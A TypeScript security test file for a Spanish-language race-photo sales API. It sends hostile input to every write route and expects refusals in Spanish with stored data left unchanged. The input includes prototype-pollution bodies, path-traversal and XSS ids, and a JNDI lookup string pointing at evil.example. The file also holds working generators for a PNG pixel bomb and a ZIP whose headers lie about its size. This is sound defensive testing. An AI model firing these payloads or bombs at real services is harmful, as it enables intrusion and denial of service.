import { mkdtemp, readdir, rm, stat } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { crc32, deflateRawSync, deflateSync } from "node:zlib";
import {
  type CreateSaleResponse,
  defaultEventConfig,
  type PhotoDto,
  type PresignResponse,
  type ZipBatchCreated,
  type ZipBatchStatusResponse,
} from "@dorsal/shared";
import { api, type EndpointSpec, routeKeyOf } from "@dorsal/shared/contract";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { memoryOf } from "../bench/proc";
import { adminToken, apiClient, waitFor } from "../support/api";
import { sampleApplication } from "../support/applications";
import { seedEventWithBibPhotos } from "../support/seed";
import { type RunningDorsal, startDorsal } from "../support/server";
import { tableItems } from "../support/table-scan";
import { makeZip } from "../support/zip";

/**
 * Issue 24, item 5: hostile input on every write route of the contract (shared/src/contract), each
 * sent as a scraper or an attacker would and no browser does: a body over the API's limit, bodies
 * of the wrong shape and type, keys that name an object's prototype, ids that climb out of their
 * folder or overflow, forms that are not forms. Every answer is a 4xx with a Spanish message, the
 * process keeps serving, and the table and the store hold exactly what they held before. Then the
 * decompression bombs an upload can carry: an image that declares 400 megapixels in a few kilobytes,
 * and ZIPs whose entries inflate past their limit or past what they declare.
 */

const english = /\b(expected|invalid|received|must|input|string|number|required|unsupported|undefined|null|error:)\b/i;

/** Write routes: everything a client can send that is not a plain read. */
const writeRoutes = Object.entries(api).flatMap(([group, routes]) =>
  Object.entries(routes as Record<string, EndpointSpec>)
    .filter(([, route]) => route.method !== "GET")
    .map(([name, route]) => ({ name: `${group}.${name}`, route })),
);

/**
 * A valid body (JSON, or a form) for each route that has both path parameters and a body, so that a
 * hostile id is what the route refuses (bodies are read first). A new route of that kind fails the
 * test until it is listed here.
 */
const validBodies: Record<string, (ids: Ids) => unknown> = {
  "PUT /api/users/{id}/password": () => ({ newPassword: "clave-segura-1" }),
  "DELETE /api/events/{id}": () => ({ adminPassword: "no-es-la-clave" }),
  "PUT /api/events/{id}/config": () => defaultEventConfig,
  "PUT /api/events/{id}/face-search": () => ({ enabled: false }),
  "POST /api/events/{id}/athlete-access": () => ({ requiresAthleteLogin: false }),
  "POST /api/events/{id}/reindex": () => ({}),
  "POST /api/events/{id}/photos/{photoId}/bibs": () => ({ dorsalNumber: "77" }),
  "POST /api/events/{id}/photos/{photoId}/suggestions": () => ({ read: "5174", dorsalNumber: "5173" }),
  "PUT /api/users/{id}": () => ({ name: "Laura Gómez", email: "laura.gomez@fotos.test", role: "photographer" }),
  "POST /api/users/{id}/events": (ids) => ({ eventId: ids.eventId }),
  "POST /api/admin/photographer-applications/{id}/approve": (ids) => ({ eventId: ids.eventId }),
  "POST /api/admin/photographer-applications/{id}/reject": () => ({}),
  "POST /api/events/{id}/pricing": () => ({
    basePrice: 15000,
    tier2Photos: 2,
    tier2Price: 14000,
    tier3Photos: 3,
    tier3Price: 13000,
    tier4Photos: 5,
    tier4Price: 12000,
    volumeDiscountEnabled: true,
    downloadValidityDays: 30,
  }),
  "POST /api/sales/download/{token}/retry": () => ({}),
  "POST /api/admin/sales/{saleId}/link": () => ({}),
  "POST /api/drive/import/{eventId}": () => ({ folderId: "carpeta" }),
  "POST /api/events/{id}/participants/import": () => {
    const form = new FormData();
    form.append("file", new Blob(["dorsal;nombre\n5173;Ana Gómez\n"], { type: "text/csv" }), "inscritos.csv");
    return form;
  },
};

/** What climbs out of a folder, overflows, injects or is no id at all; each already encoded as a path segment. */
const hostileIds = [
  "..%2F..%2F..%2Fetc%2Fpasswd",
  "..%5C..%5Cwindows",
  "1%00",
  "-1",
  "9".repeat(400),
  "x".repeat(3000),
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
];

interface Ids {
  eventId: number;
  photoId: string;
  photographerId: string;
  applicationId: string;
  saleId: string;
}

/** A real object behind every path parameter, so a hostile body that got through would change something. */
function realParam(route: EndpointSpec, name: string, ids: Ids): string {
  if (name === "eventId") return String(ids.eventId);
  if (name === "photoId") return ids.photoId;
  if (name === "saleId") return ids.saleId;
  if (name === "dorsal") return "5173";
  // Neither can be read back from anything an attacker holds: a made-up one of the right shape.
  if (name === "token") return "a".repeat(43);
  if (name === "code") return "ABCD2345";
  if (name !== "id") throw new Error(`${route.path}: no real value for {${name}}`);
  if (route.path.startsWith("/api/users/")) return ids.photographerId;
  if (route.path.startsWith("/api/admin/photographer-applications/")) return ids.applicationId;
  return String(ids.eventId);
}

const pathWith = (route: EndpointSpec, value: (name: string) => string) =>
  route.path.replace(/\{(\w+)\}/g, (_, name: string) => value(name));

/** A body of the route's fields, each one an object where the schema wants a scalar (a NoSQL-style operator). */
function operatorsFor(body: z.ZodType): Record<string, unknown> | undefined {
  if (!(body instanceof z.ZodObject)) return undefined;
  return Object.fromEntries(Object.keys(body.shape).map((key) => [key, { $ne: null, $gt: "" }]));
}

interface Sent {
  route: string;
  attempt: string;
  status: number;
  error: string;
}

describe("hostile writes", () => {
  let dorsal: RunningDorsal;
  let dataDir: string;
  let adminSession: string;
  let athleteSession: string;
  let ids: Ids;
  const sent: Sent[] = [];

  /** The session a route's access lets in: the admin's where admins may, else an athlete's. */
  const sessionFor = (route: EndpointSpec) =>
    route.access === "public" ? undefined : route.access.includes("admin") ? adminSession : athleteSession;

  async function send(
    name: string,
    attempt: string,
    route: EndpointSpec,
    request: { path?: string; body?: RequestInit["body"]; contentType?: string },
  ): Promise<Sent> {
    const session = sessionFor(route);
    const headers: Record<string, string> = {};
    if (session) headers.authorization = `Bearer ${session}`;
    if (request.contentType) headers["content-type"] = request.contentType;
    const response = await fetch(
      `${dorsal.url}${request.path ?? pathWith(route, (param) => realParam(route, param, ids))}`,
      {
        method: route.method,
        headers,
        ...(request.body === undefined ? {} : { body: request.body }),
      },
    );
    const text = await response.text();
    let error = text;
    try {
      error = String((JSON.parse(text) as { error?: unknown }).error ?? text);
    } catch {
      // Not JSON: kept as it came, and the checks below report it.
    }
    const answer = { route: name, attempt, status: response.status, error };
    sent.push(answer);
    return answer;
  }

  /** Every item of the table and every stored file, as text, read with the runtime stopped. */
  async function snapshot(): Promise<{ items: Map<string, string>; files: Map<string, number> }> {
    await dorsal.stop();
    const items = new Map(
      (await tableItems(dataDir)).map((item) => [`${String(item.pk)} | ${String(item.sk)}`, JSON.stringify(item)]),
    );
    const root = path.join(dataDir, "s3");
    const files = new Map<string, number>();
    for (const file of await readdir(root, { recursive: true })) {
      const info = await stat(path.join(root, file));
      if (info.isFile()) files.set(file, info.size);
    }
    dorsal = await startDorsal({ dataDir, env: { MAX_BODY_MB: "1" } });
    return { items, files };
  }

  beforeAll(async () => {
    // Its own data dir, which outlives each stop: the snapshots read it with the runtime stopped.
    dataDir = await mkdtemp(path.join(tmpdir(), "dorsal-hostile-writes-"));
    // Form uploads up to 1 MB here, so a form over the limit is cheap to send.
    dorsal = await startDorsal({ dataDir, env: { MAX_BODY_MB: "1" } });
    adminSession = await adminToken(dorsal);
    const admin = apiClient(dorsal.url, adminSession);
    const { event, photoIdsByBib } = await seedEventWithBibPhotos(dorsal, adminSession, {
      name: "Carrera Hostil",
      bibs: ["5173"],
    });
    const photographer = await admin.post<{ user: { id: string } }>("/api/users", {
      name: "Laura Gómez",
      email: "laura.gomez@fotos.test",
      password: "clave-segura-1",
      role: "photographer",
      assignedEventId: event.id,
    });
    const athlete = await apiClient(dorsal.url).post<{ token: string }>("/api/auth/athlete-register", {
      name: "Ana Gómez",
      email: "ana.gomez@example.co",
      password: "clave-segura-1",
    });
    const application = await apiClient(dorsal.url).post<{ id: string }>(
      "/api/photographer-applications",
      sampleApplication,
    );
    const sale = await apiClient(dorsal.url).post<CreateSaleResponse>("/api/sales/create", {
      eventId: event.id,
      photoIds: photoIdsByBib.get("5173"),
      customerName: "Ana Gómez",
      customerEmail: "ana.gomez@example.co",
    });
    expect([photographer.status, athlete.status, application.status, sale.status]).toEqual([201, 201, 201, 201]);
    athleteSession = athlete.body.token;
    ids = {
      eventId: event.id,
      photoId: photoIdsByBib.get("5173")?.[0] ?? "",
      photographerId: photographer.body.user.id,
      applicationId: application.body.id,
      saleId: sale.body.saleId,
    };
  }, 240_000);

  afterAll(async () => {
    await dorsal?.stop();
    await rm(dataDir, { recursive: true, force: true });
  });

  it("lists a valid body for every write route with both an id and a body", () => {
    const needing = writeRoutes
      .filter(({ route }) => route.params && (route.body || route.multipart))
      .map(({ route }) => routeKeyOf(route))
      .sort();
    expect(needing).toEqual(Object.keys(validBodies).sort());
  });

  it("fails a photo that declares 400 megapixels in a few kilobytes, in Spanish, without decoding it", async () => {
    const png = pixelBomb(20_000, 20_000);
    expect(png.length).toBeLessThan(200_000);
    const admin = apiClient(dorsal.url, adminSession);
    const peakBefore = (await memoryOf(dorsal.pid)).peakMb;
    const presigned = await admin.post<PresignResponse>("/api/photos/presign", {
      eventId: ids.eventId,
      files: [{ filename: "bomba.png", contentType: "image/png", size: png.length }],
    });
    expect(presigned.status).toBe(200);
    const upload = presigned.body.uploads[0];
    if (!upload) throw new Error("no upload signed");
    const put = await fetch(upload.url, { method: "PUT", headers: upload.headers, body: png });
    expect(put.status).toBe(200);
    const failed = await waitFor(
      async () => {
        const photo = (await admin.get<PhotoDto>(`/api/photos/${upload.photoId}`)).body;
        return photo.processingStatus === "failed" ? photo : undefined;
      },
      60_000,
      "the bomb to fail",
    );
    expect(failed.failureReason).toBe(
      "La imagen es demasiado grande (20000×20000 píxeles): el máximo son 120 megapíxeles",
    );
    // Decoded, 400 MP of grey would take 400 MB at the very least.
    expect((await memoryOf(dorsal.pid)).peakMb - peakBefore).toBeLessThan(200);
    expect((await admin.get("/api/events")).status).toBe(200);
  });

  it("skips ZIP entries that inflate past the photo limit or past their declared size, in Spanish", async () => {
    const admin = apiClient(dorsal.url, adminSession);
    const jpegHead = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00]);
    // Declares its 60 MB honestly: over the 50 MB a photo may have, refused from the directory alone.
    const honest = await makeZip([
      { name: "grande.jpg", data: Buffer.concat([jpegHead, Buffer.alloc(60 * 1024 * 1024)]) },
    ]);
    // Declares 1 KB and inflates to 100 MB.
    const lying = lyingZip("mentira.jpg", Buffer.concat([jpegHead, Buffer.alloc(100 * 1024 * 1024)]), 1024);
    const peakBefore = (await memoryOf(dorsal.pid)).peakMb;
    for (const [zip, entry] of [
      [honest, "grande.jpg"],
      [lying, "mentira.jpg"],
    ] as const) {
      const created = await admin.post<ZipBatchCreated>("/api/photos/zip-batches", {
        eventId: ids.eventId,
        filename: `${entry}.zip`,
        size: zip.length,
      });
      expect(created.status).toBe(200);
      const put = await fetch(created.body.url, { method: "PUT", headers: created.body.headers, body: zip });
      expect(put.status).toBe(200);
      const final = await waitFor(
        async () => {
          const now = (await admin.get<ZipBatchStatusResponse>(`/api/photos/batch-status/${created.body.batchId}`))
            .body;
          return now.status === "uploading" || now.status === "extracting" || now.status === "processing"
            ? undefined
            : now;
        },
        60_000,
        `the ${entry} batch to end`,
      );
      expect(final.extractedFiles, entry).toBe(0);
      expect(final.skipped?.map((skipped) => skipped.name)).toEqual([entry]);
      for (const skipped of final.skipped ?? []) expect(skipped.reason).not.toMatch(english);
    }
    expect((await memoryOf(dorsal.pid)).peakMb - peakBefore).toBeLessThan(200);
    expect((await admin.get("/api/events")).status).toBe(200);
  });
  it("answers every write route's hostile bodies, ids and forms with a 4xx in Spanish, and nothing is written", {
    timeout: 240_000,
  }, async () => {
    const before = await snapshot();
    const oversizedJson = JSON.stringify({ name: "x".repeat(1_200_000) });
    const prototypeBodies = [
      '{"__proto__":{"role":"admin","isAdmin":true}}',
      '{"constructor":{"prototype":{"role":"admin"}}}',
      '{"eventId":1,"photos":[{"__proto__":{"paid":true}}]}',
    ];
    for (const { name, route } of writeRoutes) {
      await send(name, "a JSON body over 1 MB", route, { body: oversizedJson, contentType: "application/json" });
      if (route.multipart) {
        const big = new FormData();
        big.append("eventId", String(ids.eventId));
        big.append("photos", new Blob([Buffer.alloc(1_500_000, 0xff)], { type: "image/jpeg" }), "grande.jpg");
        await send(name, "a form over MAX_BODY_MB", route, { body: big });
        await send(name, "JSON where a form goes", route, { body: "{}", contentType: "application/json" });
        const polluting = new FormData();
        polluting.append("eventId", String(ids.eventId));
        polluting.append("__proto__", "admin");
        await send(name, "a form field named __proto__", route, { body: polluting });
        const wrong = new FormData();
        wrong.append("eventId", "ninguno");
        wrong.append("consent", "quizás");
        await send(name, "a form of wrong types and no file", route, { body: wrong });
      }
      if (route.body) {
        await send(name, "not JSON", route, { body: "{nope", contentType: "application/json" });
        for (const [shape, body] of [
          ["an array", []],
          ["a string", "texto"],
          ["a number", 42],
          ["null", null],
          ["operators in every field", operatorsFor(route.body)],
        ] as const) {
          if (body === undefined) continue;
          await send(name, `${shape} as the body`, route, {
            body: JSON.stringify(body),
            contentType: "application/json",
          });
        }
        for (const body of prototypeBodies) {
          await send(name, `prototype keys: ${body}`, route, { body, contentType: "application/json" });
        }
      }
      for (const param of route.path.match(/\{(\w+)\}/g)?.map((braced) => braced.slice(1, -1)) ?? []) {
        for (const hostile of hostileIds) {
          // Made anew for each request: a form is read once.
          const body = validBodies[routeKeyOf(route)]?.(ids);
          await send(name, `{${param}} = ${hostile.slice(0, 40)}`, route, {
            path: pathWith(route, (other) => (other === param ? hostile : realParam(route, other, ids))),
            ...(body === undefined
              ? {}
              : body instanceof FormData
                ? { body }
                : { body: JSON.stringify(body), contentType: "application/json" }),
          });
        }
      }
    }

    const refused = (answer: Sent) =>
      answer.status >= 400 && answer.status < 500 && answer.error.length > 0 && !english.test(answer.error);
    expect(sent.filter((answer) => !refused(answer))).toEqual([]);
    // The new guards answer in their own words, wherever a body or a form is read.
    const prototypeAttempts = (one: Sent) =>
      one.attempt.startsWith("prototype keys") || one.attempt === "a form field named __proto__";
    for (const answer of sent.filter(prototypeAttempts)) {
      const route = writeRoutes.find((write) => write.name === answer.route)?.route;
      // The payment gateway's webhook is checked by its signature, whatever its body.
      if (route?.body instanceof z.ZodUnknown) continue;
      expect(answer).toMatchObject({ status: 400, error: "La petición contiene un campo no permitido" });
    }
    for (const answer of sent.filter((one) => one.attempt === "a JSON body over 1 MB")) {
      expect(answer.status, answer.route).toBe(413);
    }

    const healthy = await apiClient(dorsal.url).get("/api/events");
    expect(healthy.status).toBe(200);
    const after = await snapshot();
    const changed = (a: Map<string, unknown>, b: Map<string, unknown>) =>
      [...new Set([...a.keys(), ...b.keys()])].filter((key) => a.get(key) !== b.get(key));
    // Guesses of download codes are counted per address: that count is the lock-out working (docs/security.md).
    const guessCounters = (key: string) => key.startsWith("LOGIN#codigo-descarga | ");
    expect({
      items: changed(before.items, after.items).filter((key) => !guessCounters(key)),
      files: changed(before.files, after.files),
    }).toEqual({ items: [], files: [] });

    const routes = new Set(sent.map((answer) => answer.route));
    const byStatus = new Map<number, number>();
    for (const answer of sent) byStatus.set(answer.status, (byStatus.get(answer.status) ?? 0) + 1);
    const statuses = [...byStatus]
      .sort(([a], [b]) => a - b)
      .map(([status, count]) => `${status} × ${count}`)
      .join(", ");
    console.log(
      `hostile writes: ${sent.length} requests to ${routes.size} write routes, all refused (${statuses}); ` +
        `table (${after.items.size} items) and store (${after.files.size} files) unchanged`,
    );
  });
});

/**
 * A 1-bit grey PNG of `width`×`height` pixels, all black: its rows deflate to almost nothing, so the
 * file is small while a decoder asked to open it would allocate the whole image.
 */
function pixelBomb(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, "ascii"), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(1, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  const row = Math.ceil(width / 8) + 1; // a filter byte, then the row's bits
  const pixels = deflateSync(Buffer.alloc(row * height), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", header),
    chunk("IDAT", pixels),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** A one-entry ZIP whose headers declare `declaredSize` bytes for an entry that inflates to all of `data`. */
function lyingZip(name: string, data: Buffer, declaredSize: number): Buffer {
  const compressed = deflateRawSync(data, { level: 9 });
  const fileName = Buffer.from(name, "utf8");
  const crc = crc32(data.subarray(0, declaredSize));
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4); // version needed
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(compressed.length, 18);
  local.writeUInt32LE(declaredSize, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4); // version made by
  central.writeUInt16LE(20, 6); // version needed
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(compressed.length, 20);
  central.writeUInt32LE(declaredSize, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + compressed.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, compressed, central, fileName, end]);
}
